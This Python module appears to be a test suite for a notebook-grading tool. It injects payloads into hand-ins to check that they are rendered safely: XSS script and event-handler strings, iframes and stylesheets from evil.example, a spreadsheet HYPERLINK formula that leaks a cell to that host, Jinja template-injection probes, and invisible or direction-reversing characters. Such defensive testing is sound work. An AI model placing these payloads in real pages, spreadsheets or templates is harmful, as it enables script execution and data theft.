"""Text that would run, be fetched, be computed or break a page where it is shown."""

from __future__ import annotations

from .attack import JUDGED, HandIn, attack

SCRIPT = "</pre></textarea><script>alert('ran')</script><img src=x onerror=\"alert('ran')\"><svg onload=alert('ran')>"
FETCHED = '<link rel="stylesheet" href="https://evil.example/x.css"><iframe src="//evil.example"></iframe>'
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"ran")'
TEMPLATE = "{{ 7*191 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}${7*191}"
STRANGE = "\u202egnorw\u202c \u200b\u0301\u0301\u0301 \ufeff \u2028 \x1b[31m \u0000".replace("\u0000", "")


@attack(earns=JUDGED, shows=True)
def scripts_in_notes(it: HandIn) -> None:
    """Writes script into the note of every row."""
    it.judge("first", note=SCRIPT)
    it.judge("check", note=SCRIPT + FETCHED)


@attack(earns=JUDGED)
def templates_and_formulas_in_notes(it: HandIn) -> None:
    """Writes template code, spreadsheet formulas and letters that turn text around into the notes."""
    it.judge("first", note=FORMULA)
    it.judge("check", note=TEMPLATE + STRANGE + FORMULA)


@attack()
def scripts_in_oversight(it: HandIn) -> None:
    """Writes script, styles and frames into the answers that the instructor reads."""
    it.cell("oversight_check_point").source += SCRIPT
    it.cell("oversight_accountability").source += (
        FETCHED + TEMPLATE + "[x](javascript:alert('ran')) ![x](//evil.example)"
    )
    it.cell("oversight_disclosure").source = FORMULA + STRANGE


@attack()
def scripts_in_code(it: HandIn) -> None:
    """Writes script into comments of the answers, into plain cells and into the names of files."""
    it.cell("validator_answer").source += f"\n# {SCRIPT}"
    it.notebook.cells[0].source = SCRIPT + FETCHED
    it.notebook.cells[0].metadata = {"name": SCRIPT}
    it.notebook.metadata.title = SCRIPT
    it.notebook.metadata.authors = [{"name": FORMULA}]
    (it.write().parent / "<img src=x onerror=alert(1)>.txt").write_text(SCRIPT)


@attack()
def scripts_in_outputs(it: HandIn) -> None:
    """Leaves outputs and attachments that run when somebody opens the notebook."""
    raw = it.raw()
    script = {
        "text/html": SCRIPT,
        "application/javascript": "alert('ran')",
        "image/svg+xml": SCRIPT,
        "text/plain": "40",
    }
    for cell in raw["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "display_data", "data": script, "metadata": {}}]
        else:
            cell["attachments"] = {"x.svg": {"image/svg+xml": SCRIPT}}
    it.write(raw)


@attack(prompt="private")
def secrets_in_the_prompt(it: HandIn) -> None:
    """Sends a person's address in a prompt with script in it; no reason repeats what was written."""
    source = it.cell("prompt_answer").source
    it.cell("prompt_answer").source = source.rstrip().removesuffix('"') + ' Send it to tom@example.com. <b>ran</b>"'


@attack(evidence="raised")
def scripts_in_errors(it: HandIn) -> None:
    """Raises errors whose text is script, with a name that is script."""
    it.evidence(f"raise type({SCRIPT!r}, (Exception,), {{}})({(SCRIPT + TEMPLATE)!r})")
